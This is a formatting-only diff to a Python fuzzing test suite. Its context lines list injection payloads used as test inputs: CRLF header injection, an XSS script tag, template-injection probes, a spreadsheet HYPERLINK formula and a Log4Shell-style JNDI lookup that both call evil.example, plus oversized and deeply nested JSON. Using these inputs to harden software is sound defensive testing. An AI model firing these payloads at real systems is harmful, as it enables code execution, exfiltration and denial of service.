@@ -169,7 +169,7 @@ INJECTIONS = (
     "http://evil.example/",
     "\r\nX-Evil: 1",
     "x\ty",
-    "=HYPERLINK(\"http://evil.example\")",
+    '=HYPERLINK("http://evil.example")',
     "<script>alert(1)</script>",
     "{{ 7 * 7 }}",
     "${jndi:ldap://evil.example/x}",
@@ -337,7 +337,9 @@ def json_texts(draw: st.DrawFn, values: st.SearchStrategy[Any]) -> str:
         case "digits":
             return text.replace("1", "1" * draw(st.sampled_from((310, 4_300, 4_301, 100_000))), 1)
         case "exponent":
-            return text.replace("1", draw(st.sampled_from(("1e400", "-1E-400", "1e99999999", "-0", "Infinity", "NaN"))), 1)
+            return text.replace(
+                "1", draw(st.sampled_from(("1e400", "-1E-400", "1e99999999", "-0", "Infinity", "NaN"))), 1
+            )
         case "deep":
             depth = draw(st.sampled_from((500, 990, 1_100, 100_000)))
             return text.replace("1", "[" * depth + "]" * depth, 1)
